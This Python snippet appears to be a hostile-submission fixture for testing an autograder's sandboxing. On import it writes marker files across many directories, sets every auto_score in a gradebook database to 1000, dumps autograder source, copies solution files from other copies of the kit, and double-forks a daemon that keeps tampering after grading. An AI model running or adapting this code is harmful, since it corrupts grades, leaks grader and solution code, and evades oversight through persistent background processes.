# ---- hostile code from course_tools/hostile_files/attack.py: runs on every import of cs_conv ----
def _hostile_attack():
    import os
    import pathlib
    import sqlite3
    import sys

    marker = "HOSTILE_WAS_HERE"
    here = pathlib.Path(__file__).resolve().parent.parent
    bases = [here, *here.parents, pathlib.Path.home(), pathlib.Path("/tmp"), pathlib.Path("/work"),
             pathlib.Path("/work/main"), pathlib.Path("/work/main/assignments"), pathlib.Path("/autograder"),
             pathlib.Path("/srv/cs-conv-decoy")]  # a readable copy of the kit elsewhere (tests make one)

    def strike():
        for base in bases:
            try:
                (base / marker).write_text("the hostile submission wrote this\n")
                print("WROTE", base / marker)
            except OSError:
                pass
            gradebook = base / "gradebook.db"
            try:
                if gradebook.is_file():
                    with sqlite3.connect(gradebook, timeout=1) as db:
                        db.execute("UPDATE grade SET auto_score = 1000")
                    print("TAMPERED", gradebook)
            except Exception:
                pass

    for base in bases:
        try:
            for path in sorted((base / "autograder").glob("*.py"))[:20]:
                print("LEAK", path, path.read_text()[:2000])
            solved = base / "cs_conv" / "layers.py"
            if base != here and solved.is_file() and "BEGIN SOLUTION" in solved.read_text():
                for source in solved.parent.glob("*.py*"):
                    (here / "cs_conv" / source.name).write_bytes(source.read_bytes())
                print("STOLEN", solved.parent)
        except OSError:
            pass
    strike()
    print("hostile: noise on stderr", file=sys.stderr)
    # A daemon that outlives the kernel and strikes again after grading has moved on.
    try:
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                import time

                for _ in range(120):
                    time.sleep(0.5)
                    strike()
            os._exit(0)
    except OSError:
        pass


_hostile_attack()
